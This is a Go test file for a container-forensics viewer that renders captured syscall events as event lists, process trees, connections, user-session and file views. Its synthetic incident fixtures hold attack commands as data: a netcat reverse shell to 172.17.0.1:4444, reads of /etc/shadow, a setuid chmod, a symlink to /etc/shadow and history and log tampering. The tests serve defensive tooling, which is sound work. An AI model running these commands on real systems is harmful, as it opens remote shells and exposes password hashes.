package capview

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/riposte-sec/riposte/detector/event"
	"github.com/riposte-sec/riposte/detector/rules"
	"github.com/riposte-sec/riposte/responders/capture/capfile"
)

const cid = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

var t0 = time.Date(2026, 5, 7, 21, 9, 36, 0, time.UTC)

const pts0 = 136 << 8 // pts/0

// scenario is a docker exec -it session (sh, cat /etc/shadow, then id run
// in place of the shell), a non-interactive reverse shell (nc), an accepted
// connection and a file write.
func scenario() ([]capfile.Process, []capfile.Socket, []event.Event) {
	c := event.Container{ID: cid, Name: "web"}
	at := func(ms int) time.Time { return t0.Add(time.Duration(ms) * time.Millisecond) }
	procs := []capfile.Process{{PID: 100, PPID: 90, VPID: 1, Comm: "sleep", Exe: "/bin/busybox", Args: []string{"sleep", "3600"}, User: "root", Started: t0.Add(-time.Hour)}}
	socks := []capfile.Socket{{Proto: "tcp", State: "LISTEN", LocalAddr: "0.0.0.0", LocalPort: 80, Inode: 7, PIDs: []uint32{100}, Comms: []string{"sleep"}}}
	evs := []event.Event{
		{Type: event.Exec, Syscall: "execve", Time: at(1), PID: 200, PPID: 95, VPID: 7, Comm: "sh", Exe: "/bin/sh", Args: []string{"sh"}, TTY: pts0, User: "root", PName: "containerd-shim", Container: c},
		{Type: event.Fork, Syscall: "clone", Time: at(2), PID: 201, PPID: 200, VPID: 8, Comm: "sh", Exe: "/bin/sh", Args: []string{"sh"}, TTY: pts0, User: "root", PName: "sh", Container: c},
		// busybox re-executes itself for an applet: comm "exe", argv[0] the applet.
		{Type: event.Exec, Syscall: "execve", Time: at(3), PID: 201, PPID: 200, VPID: 8, Comm: "exe", Exe: "/proc/self/exe", Args: []string{"cat", "/etc/shadow"}, TTY: pts0, User: "root", PName: "sh", Ancestors: []string{"sh", "containerd-shim"}, Container: c},
		{Type: event.Open, Syscall: "openat", Time: at(4), PID: 201, PPID: 200, Comm: "cat", Path: "/etc/shadow", Flags: 0o2000000, Ret: 3, User: "root", Container: c},
		{Type: event.Exit, Time: at(5), PID: 201, PPID: 200, Comm: "cat", Ret: 0, Container: c},
		// and runs some applets in the forked shell without exec.
		{Type: event.Fork, Syscall: "clone", Time: at(6), PID: 202, PPID: 200, VPID: 9, Comm: "sh", Exe: "/bin/sh", Args: []string{"sh"}, TTY: pts0, User: "root", Container: c},
		{Type: event.Open, Syscall: "openat", Time: at(7), PID: 202, TID: 202, PPID: 200, Comm: "ls", Path: "/tmp", Flags: 0o2200000, Ret: 3, TTY: pts0, User: "root", Container: c},
		{Type: event.Exit, Time: at(8), PID: 202, PPID: 200, Comm: "ls", Ret: 0, Container: c},
		{Type: event.Exec, Syscall: "execve", Time: at(9), PID: 200, PPID: 95, VPID: 7, Comm: "id", Exe: "/bin/id", Args: []string{"id"}, TTY: pts0, User: "root", Container: c},
		{Type: event.Exec, Syscall: "execve", Time: at(10), PID: 300, PPID: 95, Comm: "sh", Exe: "/bin/sh", Args: []string{"sh", "-c", "nc 172.17.0.1 4444 -e sh"}, User: "root", Container: c},
		{Type: event.Fork, Time: at(11), PID: 301, PPID: 300, Comm: "sh", Container: c},
		{Type: event.Exec, Syscall: "execve", Time: at(12), PID: 301, PPID: 300, Comm: "nc", Exe: "/bin/nc", Args: []string{"nc", "172.17.0.1", "4444", "-e", "sh"}, User: "root", Ancestors: []string{"sh"}, Container: c},
		{Type: event.Connect, Syscall: "connect", Time: at(13), PID: 301, Comm: "nc", Family: "inet", SockType: "stream", LocalAddr: "172.17.0.2", LocalPort: 40000, RemoteAddr: "172.17.0.1", RemotePort: 4444, FD: 3, Ret: -115, Container: c},
		{Type: event.Accept, Syscall: "accept4", Time: at(14), PID: 100, Comm: "sleep", Family: "inet", SockType: "stream", LocalAddr: "172.17.0.2", LocalPort: 80, RemoteAddr: "172.17.0.1", RemotePort: 5555, Ret: 4, Container: c},
		{Type: event.Open, Syscall: "openat", Time: at(15), PID: 100, Comm: "sleep", Path: "/tmp/x y", Flags: 0o1101, Mode: 0o644, Ret: 5, Container: c},
	}
	return procs, socks, evs
}

// file writes the scenario as a capture file; closed adds the trailer.
func file(t *testing.T, closed bool) []byte {
	t.Helper()
	procs, socks, evs := scenario()
	var buf bytes.Buffer
	w, err := capfile.NewWriter(&buf, capfile.Header{CaptureID: "cap-1", Started: t0, Hostname: "node1", Incident: "inc-1",
		Container: capfile.Container{ID: cid, Name: "web", Image: "riposte-test:1"}, Duration: 30 * time.Second, MaxBytes: 1 << 20, EndsAt: t0.Add(30 * time.Second)}, capfile.WriterOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range procs {
		w.Process(p)
	}
	for _, s := range socks {
		w.Socket(s)
	}
	for i := range evs {
		if err := w.Event(&evs[i]); err != nil {
			t.Fatal(err)
		}
	}
	if closed {
		if err := w.Close(capfile.Trailer{Ended: t0.Add(time.Second), Reason: capfile.ReasonDuration}); err != nil {
			t.Fatal(err)
		}
	} else if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func render(t *testing.T, data []byte, opts Options) (string, Summary, error) {
	t.Helper()
	r, err := capfile.NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	sum, err := Render(&out, r, opts)
	return out.String(), sum, err
}

func filter(t *testing.T, src string) *rules.Filter {
	t.Helper()
	f, err := rules.CompileFilter(src)
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func TestViews(t *testing.T) {
	data := file(t, true)
	tests := []struct {
		name    string
		opts    Options
		want    []string // lines, in this order, each a substring of one output line
		notWant []string
		lines   int // output lines, 0: not checked
	}{
		{name: "events", opts: Options{},
			want: []string{
				"# riposte capture cap-1 (format riposte-capture v1) of container web (0123456789ab), image riposte-test:1, on node1",
				"# incident inc-1",
				`# process 100:1 ppid=90 user=root(0) cmdline="sleep 3600"`,
				"# socket tcp LISTEN 0.0.0.0:80 inode=7 uid=0 sleep(100)",
				`1 21:09:36.001000000 sh (200:7) exec(execve) exe=/bin/sh cmdline="sh" parent=containerd-shim(95) user=root(0) tty=pts/0`,
				"2 21:09:36.002000000 sh (201:8) fork(clone) child=201 parent=sh(200)",
				`3 21:09:36.003000000 exe (201:8) exec(execve) exe=/proc/self/exe cmdline="cat /etc/shadow" parent=sh(200) user=root(0) tty=pts/0`,
				"4 21:09:36.004000000 cat (201) open(openat) fd=3 name=/etc/shadow flags=O_RDONLY|O_CLOEXEC",
				"5 21:09:36.005000000 cat (201) exit code=0",
				"7 21:09:36.007000000 ls (202) open(openat) fd=3 name=/tmp flags=O_RDONLY|O_DIRECTORY|O_CLOEXEC",
				"13 21:09:36.013000000 nc (301) connect fd=3 tuple=172.17.0.2:40000->172.17.0.1:4444 proto=tcp res=-115(EINPROGRESS)",
				"14 21:09:36.014000000 sleep (100) accept(accept4) fd=4 tuple=172.17.0.1:5555->172.17.0.2:80 proto=tcp",
				`15 21:09:36.015000000 sleep (100) open(openat) fd=5 name="/tmp/x y" flags=O_WRONLY|O_CREAT|O_TRUNC mode=0644`,
				"# ended 2026-05-07T21:09:37Z reason=duration events=15 truncated=false lost=0",
			}},
		{name: "events filtered", opts: Options{Filter: filter(t, `evt.type == "open" && fd.name startsWith "/etc"`)},
			want:    []string{"# riposte capture cap-1", "4 21:09:36.004000000 cat (201) open(openat) fd=3 name=/etc/shadow", "# ended"},
			notWant: []string{"# process", "# socket", "/tmp/x", "exec"}, lines: 5},
		{name: "events json", opts: Options{Output: JSON, Filter: filter(t, `proc.name == "nc"`)},
			want: []string{`{"type":"exec","syscall":"execve"`, `{"type":"connect","syscall":"connect"`}, notWant: []string{"#"}, lines: 2},
		{name: "procs", opts: Options{View: Procs},
			want: []string{"PID[:VPID]", "100:1", "at start", "sleep 3600", "200:7", "pts/0", "id",
				"  201:8", "21:09:36.005000000 code=0", "cat /etc/shadow",
				"  202:9", "ls [no exec]",
				"300", "sh -c nc 172.17.0.1 4444 -e sh", "  301", "nc 172.17.0.1 4444 -e sh"}},
		{name: "procs filtered", opts: Options{View: Procs, Filter: filter(t, `fd.name == "/etc/shadow"`)},
			want: []string{"PID[:VPID]", "200:7", "  201:8"}, notWant: []string{"sleep 3600", "nc 172"}, lines: 3},
		{name: "connections", opts: Options{View: Connections},
			want: []string{"TIME", "out tcp   172.17.0.2:40000 -> 172.17.0.1:4444", "nc(301)", "in progress",
				"in  tcp   172.17.0.1:5555 -> 172.17.0.2:80", "sleep(100)", "fd 4"}, lines: 3},
		{name: "spy-users", opts: Options{View: SpyUsers},
			want: []string{"TIME", "root(0)      pts/0    sh(200)          201      cat /etc/shadow", "root(0)      pts/0    sh(200)          202      ls [no exec]",
				"root(0)      pts/0    sh(200)          200      id"},
			notWant: []string{"nc "}, lines: 4},
		{name: "files", opts: Options{View: Files},
			want: []string{"TIME", "cat(201)", "3    O_RDONLY|O_CLOEXEC", "/etc/shadow", "sleep(100)", `O_WRONLY|O_CREAT|O_TRUNC`, `"/tmp/x y"`}, lines: 4},
		{name: "files filtered", opts: Options{View: Files, Filter: filter(t, `evt.is_open_write`)},
			want: []string{"TIME", "/tmp/x y"}, notWant: []string{"shadow"}, lines: 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, sum, err := render(t, data, tt.opts)
			if err != nil {
				t.Fatal(err)
			}
			if sum.Events != 15 || sum.Trailer == nil {
				t.Errorf("summary = %+v", sum)
			}
			lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
			if tt.lines != 0 && len(lines) != tt.lines {
				t.Errorf("%d lines, want %d:\n%s", len(lines), tt.lines, out)
			}
			i := 0
			for _, w := range tt.want {
				for i < len(lines) && !strings.Contains(lines[i], w) {
					i++
				}
				if i == len(lines) {
					t.Fatalf("no line with %q (in order):\n%s", w, out)
				}
			}
			for _, nw := range tt.notWant {
				if strings.Contains(out, nw) {
					t.Errorf("output has %q:\n%s", nw, out)
				}
			}
		})
	}
}

func TestJSONViews(t *testing.T) {
	data := file(t, true)
	decode := func(out string, v func() any) []any {
		var rows []any
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			row := v()
			if err := json.Unmarshal([]byte(l), row); err != nil {
				t.Fatalf("line %q: %v", l, err)
			}
			rows = append(rows, row)
		}
		return rows
	}
	out, _, _ := render(t, data, Options{View: Procs, Output: JSON})
	procs := decode(out, func() any { return &ProcRow{} })
	if len(procs) != 6 {
		t.Fatalf("%d processes:\n%s", len(procs), out)
	}
	var cat *ProcRow
	for _, p := range procs {
		if p := p.(*ProcRow); p.PID == 201 {
			cat = p
		}
	}
	if cat == nil || cat.Depth != 1 || cat.Cmdline != "cat /etc/shadow" || cat.ExitCode == nil || *cat.ExitCode != 0 || cat.AtStart || cat.TTY != "pts/0" {
		t.Errorf("cat = %+v", cat)
	}
	out, _, _ = render(t, data, Options{View: Connections, Output: JSON})
	conns := decode(out, func() any { return &ConnRow{} })
	if c := conns[0].(*ConnRow); len(conns) != 2 || c.Direction != "out" || c.Server != "172.17.0.1:4444" || c.Client != "172.17.0.2:40000" || c.Proto != "tcp" || c.Result != "in progress" {
		t.Errorf("connections = %+v", conns)
	}
	out, _, _ = render(t, data, Options{View: SpyUsers, Output: JSON})
	spy := decode(out, func() any { return &SpyRow{} })
	if s := spy[0].(*SpyRow); len(spy) != 3 || !spy[1].(*SpyRow).NoExec || s.Shell != "sh" || s.ShellPID != 200 || s.Cmdline != "cat /etc/shadow" || s.TTY != "pts/0" {
		t.Errorf("spy-users = %+v", spy)
	}
	out, _, _ = render(t, data, Options{View: Files, Output: JSON})
	files := decode(out, func() any { return &FileRow{} })
	if f := files[2].(*FileRow); len(files) != 3 || f.Path != "/tmp/x y" || !f.Write || !f.Create || f.Read || f.Mode != 0o644 {
		t.Errorf("files = %+v", files)
	}
}

// TestIncomplete: a file without a trailer prints everything it has and
// reports ErrIncomplete.
func TestIncomplete(t *testing.T) {
	data := file(t, false)
	for _, v := range append(Views(), Events) {
		t.Run(string(v), func(t *testing.T) {
			out, sum, err := render(t, data, Options{View: v})
			if !errors.Is(err, capfile.ErrIncomplete) {
				t.Fatalf("err = %v", err)
			}
			if sum.Events != 15 || sum.Trailer != nil || out == "" {
				t.Errorf("summary %+v, output %q", sum, out)
			}
			if v == Events && !strings.Contains(out, "# no trailer: the capture file is incomplete") {
				t.Errorf("output:\n%s", out)
			}
		})
	}
}

func TestParse(t *testing.T) {
	for _, s := range []string{"", "events", "procs", "connections", "spy-users", "files"} {
		if _, err := ParseView(s); err != nil {
			t.Errorf("ParseView(%q): %v", s, err)
		}
	}
	if _, err := ParseView("users"); err == nil || err.Error() != `unknown view "users" (want procs, connections, spy-users or files)` {
		t.Errorf("ParseView(users): %v", err)
	}
	if _, err := ParseOutput("yaml"); err == nil {
		t.Error("ParseOutput(yaml) accepted")
	}
}

func TestTTYName(t *testing.T) {
	for _, tt := range []struct {
		nr   uint32
		want string
	}{{0, ""}, {136 << 8, "pts/0"}, {136<<8 | 5, "pts/5"}, {137<<8 | 1, "pts/257"}, {4<<8 | 1, "tty1"}, {4<<8 | 64, "ttyS0"}, {5 << 8, "tty"}, {5<<8 | 1, "console"}, {0x8801, "136:1"}} {
		// 0x8801 is major 136 minor 1 too: pts/1.
		if tt.nr == 0x8801 {
			tt.want = "pts/1"
		}
		if got := TTYName(tt.nr); got != tt.want {
			t.Errorf("TTYName(%#x) = %q, want %q", tt.nr, got, tt.want)
		}
	}
}

func TestResult(t *testing.T) {
	for ret, want := range map[int64]string{0: "0", 3: "3", -2: "-2(ENOENT)", -111: "-111(ECONNREFUSED)", -5000: "-5000"} {
		if got := Result(ret); got != want {
			t.Errorf("Result(%d) = %q, want %q", ret, got, want)
		}
	}
}

// TestFileTreeAndNamespaceEventLines: the file-tree, mount and namespace
// events and a refused connect print their arguments and results.
func TestFileTreeAndNamespaceEventLines(t *testing.T) {
	base := event.Event{Time: t0, PID: 7, Comm: "sh"}
	with := func(f func(e *event.Event)) *event.Event { e := base; f(&e); return &e }
	tests := []struct {
		ev   *event.Event
		want string
	}{
		{with(func(e *event.Event) { e.Type, e.Syscall, e.Path, e.Mode = event.Chmod, "fchmodat", "/tmp/sh", 0o4755 }),
			"chmod(fchmodat) name=/tmp/sh mode=04755 res=0"},
		{with(func(e *event.Event) { e.Type, e.Syscall, e.Path, e.FD, e.Mode = event.Chmod, "fchmod", "sh", 3, 0o755 }),
			"chmod(fchmod) fd=3 name=sh mode=0755 res=0"},
		{with(func(e *event.Event) {
			e.Type, e.Syscall, e.Path, e.Target = event.Symlink, "symlinkat", "/tmp/l", "/etc/shadow"
		}),
			"symlink(symlinkat) target=/etc/shadow linkpath=/tmp/l res=0"},
		{with(func(e *event.Event) { e.Type, e.Path, e.Target = event.Rename, "/var/log/a", "/var/log/a.1" }),
			"rename oldpath=/var/log/a newpath=/var/log/a.1 res=0"},
		{with(func(e *event.Event) { e.Type, e.Syscall, e.Path, e.Flags = event.Unlink, "unlinkat", "/tmp/d", 0x200 }),
			"unlink(unlinkat) name=/tmp/d flags=AT_REMOVEDIR res=0"},
		{with(func(e *event.Event) { e.Type, e.Path, e.SysArgs = event.Truncate, "/var/log/a", []int64{0} }),
			"truncate name=/var/log/a length=0 res=0"},
		{with(func(e *event.Event) { e.Type, e.Syscall, e.Path = event.Chdir, "chdir", "/usr/bin" }),
			"chdir name=/usr/bin res=0"},
		{with(func(e *event.Event) {
			e.Type, e.Path, e.Target, e.FSType, e.Flags, e.Ret = event.Mount, "/dev/sda1", "/mnt", "ext4", 1, -1
		}), "mount dev=/dev/sda1 dir=/mnt type=ext4 flags=MS_RDONLY res=-1(EPERM)"},
		{with(func(e *event.Event) { e.Type, e.Syscall, e.Path, e.Flags = event.Umount, "umount2", "/mnt", 2 }),
			"umount(umount2) dir=/mnt flags=MNT_DETACH res=0"},
		{with(func(e *event.Event) { e.Type, e.Path, e.FD, e.Flags = event.Setns, "net:[4026532281]", 3, 0x40000000 }),
			"setns fd=3 ns=net:[4026532281] flags=CLONE_NEWNET res=0"},
		{with(func(e *event.Event) { e.Type, e.Flags, e.Ret = event.Unshare, 0x10000000, -1 }),
			"unshare flags=CLONE_NEWUSER res=-1(EPERM)"},
		{with(func(e *event.Event) {
			e.Type, e.Family, e.SockType, e.RemoteAddr, e.RemotePort, e.FD, e.Ret = event.Connect, "inet", "stream", "10.0.0.9", 4444, 3, -111
		}), "connect fd=3 tuple=0.0.0.0:0->10.0.0.9:4444 proto=tcp res=-111(ECONNREFUSED)"},
	}
	for _, tt := range tests {
		t.Run(tt.ev.Type, func(t *testing.T) {
			got := EventLine(1, tt.ev)
			if want := "1 21:09:36.000000000 sh (7) " + tt.want; got != want {
				t.Errorf("got  %s\nwant %s", got, want)
			}
		})
	}
}

// TestFilesViewTreeChanges: the files view lists changes to the file tree
// beside opens, in text and JSON, and a filter narrows them.
func TestFilesViewTreeChanges(t *testing.T) {
	at := func(ms int) time.Time { return t0.Add(time.Duration(ms) * time.Millisecond) }
	evs := []event.Event{
		{Type: event.Open, Syscall: "openat", Time: at(1), PID: 7, Comm: "sh", Path: "/tmp/b", Flags: 0o1101, Mode: 0o755, Ret: 3},
		{Type: event.Chmod, Syscall: "fchmodat", Time: at(2), PID: 8, Comm: "chmod", Path: "/tmp/b", Mode: 0o4755},
		{Type: event.Symlink, Syscall: "symlinkat", Time: at(3), PID: 9, Comm: "ln", Path: "/tmp/s", Target: "/etc/shadow"},
		{Type: event.Rename, Syscall: "rename", Time: at(4), PID: 10, Comm: "mv", Path: "/root/.ash_history", Target: "/tmp/h"},
		{Type: event.Truncate, Syscall: "ftruncate", Time: at(5), PID: 11, Comm: "app", Path: "app.log", FD: 4, SysArgs: []int64{0}},
		{Type: event.Unlink, Syscall: "unlinkat", Time: at(6), PID: 12, Comm: "rm", Path: "/tmp/s"},
		{Type: event.Mount, Time: at(7), PID: 13, Comm: "mount", Path: "none", Target: "/mnt", Ret: -1},
	}
	var buf bytes.Buffer
	w, err := capfile.NewWriter(&buf, capfile.Header{CaptureID: "cap-2", Started: t0, Container: capfile.Container{ID: cid}}, capfile.WriterOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for i := range evs {
		if err := w.Event(&evs[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(capfile.Trailer{Ended: at(10), Reason: capfile.ReasonDuration}); err != nil {
		t.Fatal(err)
	}
	text, _, err := render(t, buf.Bytes(), Options{View: Files})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"TIME",
		"sh(7)                  3    O_WRONLY|O_CREAT|O_TRUNC             /tmp/b",
		"chmod(8)               -    chmod 04755                          /tmp/b",
		"ln(9)                  -    symlink                              /tmp/s -> /etc/shadow",
		"mv(10)                 -    rename                               /root/.ash_history -> /tmp/h",
		"app(11)                4    truncate 0                           app.log",
		"rm(12)                 -    unlink                               /tmp/s",
	}
	lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
	if len(lines) != len(want) {
		t.Fatalf("%d lines, want %d (the mount is not a file change):\n%s", len(lines), len(want), text)
	}
	for i, w := range want {
		if !strings.Contains(lines[i], w) {
			t.Errorf("line %d = %q, want it to contain %q", i, lines[i], w)
		}
	}
	js, _, err := render(t, buf.Bytes(), Options{View: Files, Output: JSON, Filter: filter(t, `evt.type == "symlink"`)})
	if err != nil {
		t.Fatal(err)
	}
	var row FileRow
	if err := json.Unmarshal([]byte(strings.TrimSpace(js)), &row); err != nil {
		t.Fatalf("%v: %s", err, js)
	}
	if row.Op != event.Symlink || row.Path != "/tmp/s" || row.Target != "/etc/shadow" || row.PID != 9 {
		t.Errorf("json row = %+v", row)
	}
}

// TestExitCode: the kernel's exit status is shown as a shell shows it.
func TestExitCode(t *testing.T) {
	tests := []struct{ status, want int64 }{{0, 0}, {1 << 8, 1}, {255 << 8, 255}, {9, 137}, {15, 143}, {6 | 0x80, 134}}
	for _, tt := range tests {
		if got := ExitCode(tt.status); got != tt.want {
			t.Errorf("ExitCode(%#x) = %d, want %d", tt.status, got, tt.want)
		}
	}
}
